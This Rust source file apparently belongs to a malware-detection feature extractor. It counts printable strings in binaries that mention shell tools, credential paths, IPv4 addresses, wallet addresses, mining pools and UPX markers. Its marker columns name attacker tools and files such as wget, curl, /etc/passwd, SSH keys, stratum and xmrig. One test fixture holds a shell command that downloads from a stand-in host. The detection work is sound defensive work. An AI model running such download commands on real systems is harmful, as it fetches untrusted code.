//! Printable-string statistics: how many strings, how long, and how many mention URLs,
//! IPv4 addresses, absolute paths, shell commands, crypto-wallet-like tokens and
//! mining pools, plus one column per marker of interest.
//!
//! Owns the string scan ([`scan`]), whose result the toolchain and packer groups also
//! read (Go/Rust/GCC traces, `UPX!` positions). A string is a run of at least
//! [`MIN_LEN`] printable ASCII bytes (0x20–0x7e), as EMBER counts them; each
//! count column counts strings, not occurrences.

use super::Input;
use super::fnv::bucket;
use super::needles::{MARKER_COUNT, MINING_MARKERS, Marker, Matcher, SHELL_MARKERS};
use super::row::{Row, columns};
use super::string_hash::{self, HASH_BYTE_BUDGET, HASH_MAX_LEN, HASH_MIN_LEN};

/// Shortest run of printable bytes that counts as a string.
pub(crate) const MIN_LEN: usize = 5;

/// What [`scan`] found.
pub(crate) struct StringScan {
    /// Strings found.
    pub count: u64,
    /// Their total length in bytes.
    pub total_len: u64,
    /// The longest one.
    pub max_len: u64,
    /// Per marker: strings mentioning it.
    pub markers: [u64; MARKER_COUNT],
    /// Strings holding a dotted-quad IPv4 address.
    pub ipv4: u64,
    /// Strings that are absolute paths.
    pub paths: u64,
    /// Strings holding a crypto-wallet-like token.
    pub wallets: u64,
    /// Strings mentioning any shell marker.
    pub shell: u64,
    /// Strings mentioning any mining marker.
    pub mining: u64,
    /// Occurrences of `UPX!` (case-sensitive, anywhere in the file, found with
    /// `memchr`'s SIMD substring search).
    pub upx_count: u64,
    /// Offset of the first `UPX!`.
    pub upx_first: Option<usize>,
    /// Offset of the last `UPX!`.
    pub upx_last: Option<usize>,
    /// Strings per FNV-1a bucket (`string_hash`); all zero unless the scan was
    /// asked to hash.
    pub hashed: [u32; string_hash::BUCKETS],
}

impl StringScan {
    /// Strings mentioning `marker`.
    pub(crate) fn marker(&self, marker: Marker) -> u64 {
        self.markers.get(marker as usize).copied().unwrap_or(0)
    }

    fn note_upx(&mut self, at: usize) {
        self.upx_count = self.upx_count.saturating_add(1);
        if self.upx_first.is_none() {
            self.upx_first = Some(at);
        }
        self.upx_last = Some(at);
    }
}

/// Bytes per chunk of the scan (one bit per byte in a `u64` mask).
const CHUNK: usize = 64;

const LOW7: u64 = 0x7f7f_7f7f_7f7f_7f7f;
const HIGH: u64 = 0x8080_8080_8080_8080;
const ONES: u64 = 0x0101_0101_0101_0101;

/// High bit of each byte of `t` set exactly when that byte is zero (no carries
/// cross bytes, so no false positives).
fn zero_bytes(t: u64) -> u64 {
    !((t & LOW7).wrapping_add(LOW7) | t) & HIGH
}

/// Gathers the high bit of each byte into the low 8 bits (byte `k` → bit `k`).
fn gather(x: u64) -> u64 {
    ((x >> 7).wrapping_mul(0x0102_0408_1020_4080)) >> 56
}

/// High bit of each byte of `w` set when that byte is in `lo..=hi` (both < 0x80).
fn in_range(w: u64, lo: u8, hi: u8) -> u64 {
    let low7 = w & LOW7;
    let ge_lo = low7.wrapping_add(ONES * u64::from(0x80u8.saturating_sub(lo)));
    let gt_hi = low7.wrapping_add(ONES * u64::from(0x7fu8.saturating_sub(hi)));
    ge_lo & !gt_hi & !w & HIGH
}

/// For 8 bytes (little-endian word `w`): bit `k` set when byte `k` is printable
/// (0x20–0x7e). SWAR, no branches: `low7 + 0x60` reaches 0x80 exactly when
/// `low7 >= 0x20`, `low7 + 1` exactly when `low7 == 0x7f`, and neither carries into
/// the next byte; the high bits are then gathered into the low 8 bits.
fn word_mask(w: u64) -> u64 {
    gather(in_range(w, 0x20, 0x7e))
}

/// The string's bytes as little-endian words (the last one zero-padded: a zero
/// byte is neither a dot nor alphanumeric).
fn words(s: &[u8]) -> impl Iterator<Item = u64> + '_ {
    let body = s.chunks_exact(8);
    let tail = body.remainder();
    let last = (!tail.is_empty()).then(|| {
        let mut raw = [0u8; 8];
        for (d, b) in raw.iter_mut().zip(tail) {
            *d = *b;
        }
        u64::from_le_bytes(raw)
    });
    body.map(|w| <[u8; 8]>::try_from(w).map_or(0, u64::from_le_bytes))
        .chain(last)
}

/// Number of `.` in `s`, eight bytes at a time (a cheap any-dot test first: most
/// strings have none).
fn count_dots(s: &[u8]) -> u32 {
    let dot = ONES * u64::from(b'.');
    let any = words(s).fold(0u64, |acc, w| {
        let t = w ^ dot;
        acc | (t.wrapping_sub(ONES) & !t & HIGH)
    });
    if any == 0 {
        return 0;
    }
    words(s).map(|w| zero_bytes(w ^ dot).count_ones()).sum()
}

/// Shortest wallet-shaped token.
const WALLET_MIN: u32 = 26;

/// Alphanumeric mask of up to 64 bytes (bit `i` = byte `i`; missing bytes are 0).
fn alnum_mask(group: &[u8]) -> u64 {
    let mut mask = 0u64;
    for (k, w) in words(group).enumerate() {
        let alnum = in_range(w, b'0', b'9') | in_range(w | (ONES * 0x20), b'a', b'z');
        mask |= gather(alnum) << (8 * (k & 7));
    }
    mask
}

/// Keeps the bits of `m` in runs of at least [`WALLET_MIN`] set bits, plus the run
/// touching the top bit of a `width`-bit group and, when `continues`, the one
/// touching bit 0 (those may extend past the group).
fn wallet_runs(m: u64, width: u32, continues: bool) -> u64 {
    // Bit i of `r` survives when bits i..i+26 are all set...
    let mut r = m;
    r &= r >> 1;
    r &= r >> 2;
    r &= r >> 4;
    r &= r >> 8;
    r &= r >> 10;
    // ...and spreading it back over i..i+26 marks every bit of those runs.
    r |= r << 1;
    r |= r << 2;
    r |= r << 4;
    r |= r << 8;
    r |= r << 10;
    let bottom = if continues {
        1u64.checked_shl(m.trailing_ones())
            .map_or(u64::MAX, |b| b - 1)
    } else {
        0
    };
    let shifted = m.checked_shl(CHUNK as u32 - width).unwrap_or(0);
    let top = u64::MAX
        .checked_shl(CHUNK as u32 - shifted.leading_ones())
        .unwrap_or(0)
        .checked_shr(CHUNK as u32 - width)
        .unwrap_or(0);
    (r | bottom | top) & m
}

/// A token (maximal run of ASCII letters and digits) shaped like a Bitcoin (legacy
/// or bech32), Monero or Ethereum address. Runs shorter than [`WALLET_MIN`] are
/// skipped 64 bytes at a time with bit masks; only long runs are validated.
fn has_wallet(s: &[u8]) -> bool {
    let mut run: Option<usize> = None;
    let check = |start: usize, end: usize| {
        wallet_len(end.saturating_sub(start)) && s.get(start..end).is_some_and(is_wallet_token)
    };
    for (g, group) in s.chunks(CHUNK).enumerate() {
        let base = g.saturating_mul(CHUNK);
        let width = group.len() as u32;
        let m = alnum_mask(group);
        let f = wallet_runs(m, width, run.is_some());
        let mut pos = 0u32;
        while pos < width {
            match run {
                Some(start) => {
                    let end =
                        pos.saturating_add((!m).checked_shr(pos).unwrap_or(0).trailing_zeros());
                    if end >= width {
                        break;
                    }
                    if check(start, base.saturating_add(end as usize)) {
                        return true;
                    }
                    run = None;
                    pos = end;
                }
                None => {
                    let ones = f.checked_shr(pos).unwrap_or(0);
                    if ones == 0 {
                        break;
                    }
                    pos = pos.saturating_add(ones.trailing_zeros());
                    run = Some(base.saturating_add(pos as usize));
                }
            }
        }
    }
    run.is_some_and(|start| check(start, s.len()))
}

/// Printable mask of a full 64-byte chunk (bit `i` = byte `i`).
fn chunk_mask(chunk: &[u8; CHUNK]) -> u64 {
    let mut mask = 0u64;
    for (k, word) in chunk.chunks_exact(8).enumerate() {
        let w = <[u8; 8]>::try_from(word).map_or(0, u64::from_le_bytes);
        mask |= word_mask(w) << (8 * (k & 7));
    }
    mask
}

/// Keeps the bits of `m` that belong to runs of at least `MIN_LEN` (5) set bits,
/// plus the run touching the top bit of a `width`-bit chunk (it may continue) and,
/// when `continues`, the run touching bit 0 (it continues the previous chunk).
fn long_runs(m: u64, width: u32, continues: bool) -> u64 {
    let m5 = m & (m >> 1) & (m >> 2) & (m >> 3) & (m >> 4);
    let keep = m5 | (m5 << 1) | (m5 << 2) | (m5 << 3) | (m5 << 4);
    let bottom = if continues {
        let ones = m.trailing_ones();
        1u64.checked_shl(ones).map_or(u64::MAX, |b| b - 1)
    } else {
        0
    };
    let top = {
        let shifted = m.checked_shl(CHUNK as u32 - width).unwrap_or(0);
        let ones = shifted.leading_ones();
        let run = u64::MAX.checked_shl(CHUNK as u32 - ones).unwrap_or(0);
        run.checked_shr(CHUNK as u32 - width).unwrap_or(0)
    };
    (keep | bottom | top) & m
}

/// Finds every printable string of `bytes` and classifies it; with `hash`, also
/// fills [`StringScan::hashed`].
pub(crate) fn scan(bytes: &[u8], hash: bool) -> StringScan {
    let mut state = Classifier::new();
    state.hash_budget = if hash { HASH_BYTE_BUDGET } else { 0 };
    let mut run: Option<usize> = None;
    let mut chunks = bytes.chunks_exact(CHUNK);
    let mut base = 0usize;
    for chunk in &mut chunks {
        let Ok(chunk) = <&[u8; CHUNK]>::try_from(chunk) else {
            break;
        };
        state.chunk(bytes, base, chunk_mask(chunk), CHUNK as u32, &mut run);
        base = base.saturating_add(CHUNK);
    }
    let tail = chunks.remainder();
    if !tail.is_empty() {
        // Zero padding is not printable, so the tail scans like a full chunk.
        let mut padded = [0u8; CHUNK];
        for (d, s) in padded.iter_mut().zip(tail) {
            *d = *s;
        }
        state.chunk(
            bytes,
            base,
            chunk_mask(&padded),
            tail.len() as u32,
            &mut run,
        );
    }
    if let Some(start) = run {
        state.string(bytes, start, bytes.len());
    }
    for at in memchr::memmem::find_iter(bytes, b"UPX!") {
        state.out.note_upx(at);
    }
    state.out
}

/// Classifies strings as the scan finds them.
struct Classifier {
    out: StringScan,
    matcher: &'static Matcher,
    shell_mask: u64,
    mining_mask: u64,
    /// String bytes that may still be hashed.
    hash_budget: usize,
}

impl Classifier {
    fn new() -> Self {
        Classifier {
            out: StringScan {
                count: 0,
                total_len: 0,
                max_len: 0,
                markers: [0; MARKER_COUNT],
                ipv4: 0,
                paths: 0,
                wallets: 0,
                shell: 0,
                mining: 0,
                upx_count: 0,
                upx_first: None,
                upx_last: None,
                hashed: [0; string_hash::BUCKETS],
            },
            matcher: Matcher::get(),
            shell_mask: Marker::mask(SHELL_MARKERS),
            mining_mask: Marker::mask(MINING_MARKERS),
            hash_budget: 0,
        }
    }

    /// Handles one chunk at `base` (`width` valid bytes, printable mask `m`): ends and
    /// starts runs. `run` is the start of the run still open at the chunk's start.
    fn chunk(&mut self, bytes: &[u8], base: usize, m: u64, width: u32, run: &mut Option<usize>) {
        let full = u64::MAX.checked_shr(CHUNK as u32 - width).unwrap_or(0);
        if m == full {
            run.get_or_insert(base);
            return;
        }
        let f = long_runs(m, width, run.is_some());
        let mut pos = 0u32;
        while pos < width {
            match *run {
                Some(start) => {
                    // The run ends at the first non-printable byte.
                    let zeros = (!m).checked_shr(pos).unwrap_or(0);
                    let end = pos.saturating_add(zeros.trailing_zeros());
                    if end >= width {
                        break;
                    }
                    self.string(bytes, start, base.saturating_add(end as usize));
                    *run = None;
                    pos = end;
                }
                None => {
                    let ones = f.checked_shr(pos).unwrap_or(0);
                    if ones == 0 {
                        break;
                    }
                    pos = pos.saturating_add(ones.trailing_zeros());
                    *run = Some(base.saturating_add(pos as usize));
                }
            }
        }
    }

    /// Handles the maximal printable run `bytes[start..end]`.
    fn string(&mut self, bytes: &[u8], start: usize, end: usize) {
        let Some(s) = bytes.get(start..end) else {
            return;
        };
        let len = s.len();
        if len < MIN_LEN {
            return;
        }
        if (HASH_MIN_LEN..=HASH_MAX_LEN).contains(&len) && len <= self.hash_budget {
            self.hash_budget -= len;
            if let Some(slot) = self.out.hashed.get_mut(bucket(s, string_hash::BUCKETS)) {
                *slot = slot.saturating_add(1);
            }
        }
        let out = &mut self.out;
        out.count = out.count.saturating_add(1);
        out.total_len = out.total_len.saturating_add(len as u64);
        out.max_len = out.max_len.max(len as u64);
        let mask = self.matcher.scan(s);
        if mask != 0 {
            for (i, slot) in out.markers.iter_mut().enumerate() {
                if mask & (1u64 << i) != 0 {
                    *slot = slot.saturating_add(1);
                }
            }
            if mask & self.shell_mask != 0 {
                out.shell = out.shell.saturating_add(1);
            }
            if mask & self.mining_mask != 0 {
                out.mining = out.mining.saturating_add(1);
            }
        }
        if is_abs_path(s) {
            out.paths = out.paths.saturating_add(1);
        }
        if len >= 7 && count_dots(s) >= 3 && has_ipv4(s) {
            out.ipv4 = out.ipv4.saturating_add(1);
        }
        if len >= WALLET_MIN as usize && has_wallet(s) {
            out.wallets = out.wallets.saturating_add(1);
        }
    }
}

/// `/` followed by a path character: `/etc/passwd`, `/bin/sh`, `/.ssh`.
fn is_abs_path(s: &[u8]) -> bool {
    s.first() == Some(&b'/')
        && s.get(1)
            .is_some_and(|&b| b.is_ascii_alphanumeric() || b == b'.' || b == b'_')
}

/// A dotted quad (each part 0–255, 1–3 digits) not embedded in a longer number.
fn has_ipv4(s: &[u8]) -> bool {
    for start in 0..s.len() {
        let Some(&c) = s.get(start) else { break };
        if !c.is_ascii_digit() {
            continue;
        }
        let after_sep = start
            .checked_sub(1)
            .and_then(|p| s.get(p))
            .is_none_or(|&p| !p.is_ascii_digit() && p != b'.');
        if !after_sep {
            continue;
        }
        if let Some(end) = ipv4_at(s, start) {
            if !s.get(end).is_some_and(|b| b.is_ascii_digit()) {
                return true;
            }
        }
    }
    false
}

/// End offset of a dotted quad starting at `start`.
fn ipv4_at(s: &[u8], start: usize) -> Option<usize> {
    let mut i = start;
    for part in 0..4 {
        let mut value = 0u32;
        let mut digits = 0;
        while let Some(&c) = s.get(i) {
            if !c.is_ascii_digit() || digits == 3 {
                break;
            }
            value = value * 10 + u32::from(c - b'0');
            digits += 1;
            i += 1;
        }
        if digits == 0 || value > 255 {
            return None;
        }
        if part < 3 {
            if s.get(i) != Some(&b'.') {
                return None;
            }
            i += 1;
        }
    }
    Some(i)
}

const BASE58: &[u8] = b"123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz";
const BECH32: &[u8] = b"qpzry9x8gf2tvdw0s3jn54khce6mua7l";

/// Token lengths any wallet shape can have (cheap pre-check before validating).
fn wallet_len(len: usize) -> bool {
    (26..=35).contains(&len) || (42..=62).contains(&len) || len == 95 || len == 106
}

fn is_wallet_token(t: &[u8]) -> bool {
    let len = t.len();
    let first = t.first().copied().unwrap_or(0);
    let base58 = || t.iter().all(|b| BASE58.contains(b));
    let mixed = || {
        t.iter().any(u8::is_ascii_uppercase)
            && t.iter().any(u8::is_ascii_lowercase)
            && t.iter().any(u8::is_ascii_digit)
    };
    if (26..=35).contains(&len) && (first == b'1' || first == b'3') && base58() && mixed() {
        return true;
    }
    if (len == 95 || len == 106) && (first == b'4' || first == b'8') && base58() && mixed() {
        return true;
    }
    if (42..=62).contains(&len)
        && t.starts_with(b"bc1")
        && t.get(3..)
            .is_some_and(|r| r.iter().all(|b| BECH32.contains(b)))
    {
        return true;
    }
    len == 42
        && t.starts_with(b"0x")
        && t.get(2..)
            .is_some_and(|r| r.iter().all(u8::is_ascii_hexdigit))
}

columns! {
    /// Columns of the printable-string group.
    Col {
        Count = "str_count_log",
        MeanLen = "str_mean_len_log",
        MaxLen = "str_max_len_log",
        Bytes = "str_bytes_rel",
        Url = "str_url_log",
        Ipv4 = "str_ipv4_log",
        Path = "str_abs_path_log",
        Shell = "str_shell_log",
        Wallet = "str_wallet_log",
        Mining = "str_mining_log",
        BinSh = "str_bin_sh_log",
        BinBash = "str_bin_bash_log",
        Busybox = "str_busybox_log",
        Wget = "str_wget_log",
        Curl = "str_curl_log",
        Tftp = "str_tftp_log",
        Chmod = "str_chmod_log",
        RmRf = "str_rm_rf_log",
        DevNull = "str_dev_null_log",
        Nohup = "str_nohup_log",
        Crontab = "str_crontab_log",
        Iptables = "str_iptables_log",
        InitScripts = "str_init_scripts_log",
        Systemctl = "str_systemctl_log",
        LdPreload = "str_ld_preload_log",
        Proc = "str_proc_log",
        Tmp = "str_tmp_log",
        DevShm = "str_dev_shm_log",
        EtcPasswd = "str_etc_passwd_log",
        SshKeys = "str_ssh_keys_log",
        Watchdog = "str_watchdog_log",
        UserAgent = "str_user_agent_log",
        Irc = "str_irc_log",
        Stratum = "str_stratum_log",
        Xmrig = "str_xmrig_log",
    }
}

/// Number of columns of this group.
pub(crate) const LEN: usize = Col::NAMES.len();

/// Marker behind each per-marker column.
const MARKER_COLS: &[(Col, Marker)] = &[
    (Col::BinSh, Marker::BinSh),
    (Col::BinBash, Marker::BinBash),
    (Col::Busybox, Marker::Busybox),
    (Col::Wget, Marker::Wget),
    (Col::Curl, Marker::Curl),
    (Col::Tftp, Marker::Tftp),
    (Col::Chmod, Marker::Chmod),
    (Col::RmRf, Marker::RmRf),
    (Col::DevNull, Marker::DevNull),
    (Col::Nohup, Marker::Nohup),
    (Col::Crontab, Marker::Crontab),
    (Col::Iptables, Marker::Iptables),
    (Col::InitScripts, Marker::InitScripts),
    (Col::Systemctl, Marker::Systemctl),
    (Col::LdPreload, Marker::LdPreload),
    (Col::Proc, Marker::Proc),
    (Col::Tmp, Marker::Tmp),
    (Col::DevShm, Marker::DevShm),
    (Col::EtcPasswd, Marker::EtcPasswd),
    (Col::SshKeys, Marker::SshKeys),
    (Col::Watchdog, Marker::Watchdog),
    (Col::UserAgent, Marker::UserAgent),
    (Col::Irc, Marker::Irc),
    (Col::Stratum, Marker::Stratum),
    (Col::Xmrig, Marker::Xmrig),
];

/// Fills the group from the input's string scan.
pub(crate) fn fill(input: &Input<'_>, row: &mut Row<'_>) {
    fill_from(&input.strings, input.bytes.len() as u64, row);
}

fn fill_from(scan: &StringScan, file_len: u64, row: &mut Row<'_>) {
    row.log(Col::Count, scan.count);
    let mean = scan.total_len.checked_div(scan.count).unwrap_or(0);
    row.log(Col::MeanLen, mean);
    row.log(Col::MaxLen, scan.max_len);
    row.rel(Col::Bytes, scan.total_len, file_len);
    row.log(Col::Url, scan.marker(Marker::Url));
    row.log(Col::Ipv4, scan.ipv4);
    row.log(Col::Path, scan.paths);
    row.log(Col::Shell, scan.shell);
    row.log(Col::Wallet, scan.wallets);
    row.log(Col::Mining, scan.mining);
    for &(col, marker) in MARKER_COLS {
        row.log(col, scan.marker(marker));
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn counts_strings_and_categories() {
        let data = b"\0\0hello\x01/bin/sh -c 'wget http://10.0.0.1:81/x'\x00ab\x00\
            stratum+tcp://pool.example:3333\x00/etc/passwd\x00UPX!\x00\xffxxUPX!\x02";
        let s = scan(data, true);
        assert_eq!(s.count, 5); // hello, /bin/sh..., stratum..., /etc/passwd, xxUPX!
        assert_eq!(s.marker(Marker::Url), 1);
        assert_eq!(s.marker(Marker::BinSh), 1);
        assert_eq!(s.marker(Marker::Wget), 1);
        assert_eq!(s.ipv4, 1);
        assert_eq!(s.paths, 2);
        assert_eq!(s.shell, 2);
        assert_eq!(s.mining, 1);
        assert_eq!(s.upx_count, 2);
        let first = data.windows(4).position(|w| w == b"UPX!");
        assert_eq!(s.upx_first, first);
        assert!(s.upx_last > s.upx_first);
    }

    /// Reference: maximal printable runs of at least MIN_LEN, the slow way.
    fn naive(bytes: &[u8]) -> (u64, u64, u64) {
        let printable = |b: u8| (0x20..=0x7e).contains(&b);
        let (mut count, mut total, mut max, mut run) = (0u64, 0u64, 0u64, 0u64);
        for &b in bytes.iter().chain([0u8].iter()) {
            if printable(b) {
                run += 1;
            } else {
                if run >= MIN_LEN as u64 {
                    count += 1;
                    total += run;
                    max = max.max(run);
                }
                run = 0;
            }
        }
        (count, total, max)
    }

    #[test]
    fn chunked_scan_matches_reference() {
        let mut x = 0x9e37_79b9_7f4a_7c15u64;
        for round in 0..300 {
            let len = (round * 37) % 700;
            // Vary the printable density so runs of every length cross chunk edges.
            let density = round % 10;
            let bytes: Vec<u8> = (0..len)
                .map(|_| {
                    x ^= x << 13;
                    x ^= x >> 7;
                    x ^= x << 17;
                    if (x % 10) < density as u64 {
                        b'a' + (x >> 8) as u8 % 26
                    } else {
                        (x >> 16) as u8 & 0x1f
                    }
                })
                .collect();
            let s = scan(&bytes, true);
            assert_eq!(
                (s.count, s.total_len, s.max_len),
                naive(&bytes),
                "round {round} len {len}"
            );
        }
        let all = vec![b'x'; 1000];
        assert_eq!(scan(&all, true).count, 1);
        assert_eq!(scan(&all, true).max_len, 1000);
    }

    #[test]
    fn word_masks_match_bytewise() {
        let printable = |b: u8| (0x20..=0x7e).contains(&b);
        let mut chunk = [0u8; CHUNK];
        for block in 0..4 {
            for (i, b) in chunk.iter_mut().enumerate() {
                *b = (block * 64 + i) as u8;
            }
            let m = chunk_mask(&chunk);
            for (i, &b) in chunk.iter().enumerate() {
                assert_eq!(m >> i & 1 == 1, printable(b), "byte {b:#x}");
            }
        }
        assert_eq!(chunk_mask(&[b'a'; CHUNK]), u64::MAX);
        assert_eq!(count_dots(b"1.2.3.4 and abcdefghijklmnopqrstuvwxy9"), 3);
        assert_eq!(count_dots(b"no dots here"), 0);
        assert_eq!(count_dots(b"........."), 9);
        let runs = |s: &[u8]| wallet_runs(alnum_mask(s), s.len() as u32, false);
        assert_ne!(runs(b"1.2.3.4 and abcdefghijklmnopqrstuvwxy9"), 0);
        assert_eq!(runs(b"abcdefghijklmnopqrstuvwxy-z."), 0);
        // A run touching the top of the group is kept: it may continue.
        assert_eq!(runs(b"abcdefghijklmnopqrstuvwxy-z"), 1 << 26);
        assert_ne!(runs(b"ABCDEFGHIJKLMNOPQRSTUVWXYZ"), 0);
        assert_eq!(runs(b"@@@@[[[[````{{{{////::::@@@@"), 0);
        assert_eq!(alnum_mask(b"aZ9-"), 0b0111);
    }

    #[test]
    fn long_runs_edges() {
        assert_eq!(long_runs(0b1111, 64, false), 0);
        assert_eq!(long_runs(0b1111, 64, true), 0b1111);
        assert_eq!(long_runs(0b11111 << 3, 64, false), 0b11111 << 3);
        assert_eq!(long_runs(1 << 63, 64, false), 1 << 63);
        assert_eq!(long_runs(0b110, 3, false), 0b110);
        assert_eq!(long_runs(u64::MAX, 64, false), u64::MAX);
    }

    #[test]
    fn ipv4_shapes() {
        assert!(has_ipv4(b"connect 192.168.1.20:23"));
        assert!(has_ipv4(b"0.0.0.0"));
        assert!(!has_ipv4(b"256.1.1.1"));
        assert!(!has_ipv4(b"1.2.3"));
        assert!(!has_ipv4(b"11.2.3.4444"));
        assert!(has_ipv4(b"v1.2.3.4"));
        assert!(!has_ipv4(b"1234.2.3.4"));
    }

    #[test]
    fn wallet_scan_matches_reference() {
        let naive = |s: &[u8]| s.split(|b| !b.is_ascii_alphanumeric()).any(is_wallet_token);
        let mut x = 0x2545_f491_4f6c_dd1du64;
        let mut next = move || {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            x
        };
        let alphabet = b"123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz";
        let mut positives = 0;
        for round in 0..3000 {
            let len = (next() % 300) as usize;
            // Separators are rare so that long tokens of every length occur.
            let sep_every = 10 + (round % 60) as u64;
            let s: Vec<u8> = (0..len)
                .map(|_| {
                    let r = next();
                    if r % sep_every == 0 {
                        b' '
                    } else {
                        alphabet[(r >> 8) as usize % alphabet.len()]
                    }
                })
                .collect();
            let want = naive(&s);
            positives += usize::from(want);
            assert_eq!(
                has_wallet(&s),
                want,
                "round {round}: {}",
                String::from_utf8_lossy(&s)
            );
        }
        assert!(positives > 20, "only {positives} wallet-shaped inputs");
    }

    #[test]
    fn wallet_shapes() {
        assert!(has_wallet(b"addr=1BoatSLRHtKNngkdXEeobR76b53LETtpyT;"));
        assert!(has_wallet(b"bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq"));
        assert!(has_wallet(b"0x52908400098527886E0F7030069857D2E4169EE7"));
        // A wallet straddling the 64-byte group boundary, then one at the very end.
        let mut straddle = vec![b' '; 50];
        straddle.extend_from_slice(b"1BoatSLRHtKNngkdXEeobR76b53LETtpyT");
        assert!(has_wallet(&straddle));
        straddle.extend_from_slice(b"xx");
        assert!(
            !has_wallet(&straddle),
            "36 chars is no longer a legacy address"
        );
        let xmr = "4".to_string() + &"AbC9".repeat(23) + "xy";
        assert_eq!(xmr.len(), 95);
        assert!(has_wallet(xmr.as_bytes()));
        assert!(!has_wallet(b"11111111111111111111111111111111"));
        assert!(!has_wallet(b"the quick brown fox jumps over the lazy dog"));
    }

    #[test]
    fn empty_and_binary() {
        let s = scan(&[], true);
        assert_eq!(s.count, 0);
        let s = scan(&[0u8, 1, 2, 0xff, 0x80], true);
        assert_eq!(s.count, 0);
        let mut row_cells = [0.0f32; LEN];
        fill_from(&s, 0, &mut Row::new(&mut row_cells));
        assert!(row_cells.iter().all(|v| *v == 0.0));
    }
}
